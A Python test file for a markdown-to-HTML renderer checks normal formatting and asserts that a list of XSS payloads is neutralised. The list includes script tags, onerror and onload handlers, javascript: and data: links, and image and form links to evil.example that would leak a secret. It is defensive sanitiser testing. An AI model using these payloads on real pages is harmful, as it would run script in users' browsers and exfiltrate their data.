from html.parser import HTMLParser

import pytest
from agent_core.markdown import Renderer

RENDERED = [
    ("Es **15**", "<p>Es <strong>15</strong></p>"),
    ("`a < b`", "<p><code>a &lt; b</code></p>"),
    ("~~no~~ *sí*", "<p><s>no</s> <em>sí</em></p>"),
    ("- uno\n- dos", "<ul>\n<li>uno</li>\n<li>dos</li>\n</ul>"),
    ("3. tres", '<ol start="3">\n<li>tres</li>\n</ol>'),
    ("```py\nx = 1\n```", '<pre><code class="language-py">x = 1\n</code></pre>'),
    (
        "[a](https://example.com)",
        '<p><a href="https://example.com" rel="noopener noreferrer nofollow">a</a></p>',
    ),
    ("https://example.com", "<p>https://example.com</p>"),
    ("a <b>x</b>", "<p>a &lt;b&gt;x&lt;/b&gt;</p>"),
    ("", ""),
]

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<a href='https://x' onclick='alert(1)'>x</a>",
    '[x](https://x "\\" onmouseover=alert(1) ")',
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<svg/onload=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "<form action=https://evil.example><input name=p></form>",
]


class Elements(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize(("text", "html"), RENDERED)
def test_what_markdown_means(text: str, html: str):
    assert Renderer().html(text) == html


def test_tables_keep_their_alignment():
    html = Renderer().html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "<table>" in html and "text-align:center" in html.replace(" ", "")


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_runs_or_fetches_gets_through(text: str):
    seen = Elements()
    seen.feed(Renderer().html(text))
    assert seen.tags <= {"p", "a", "code", "pre"}
    assert not {name for name, _ in seen.attributes} - {"href", "title", "rel", "class"}
    assert all(value.startswith("https://") for name, value in seen.attributes if name == "href")
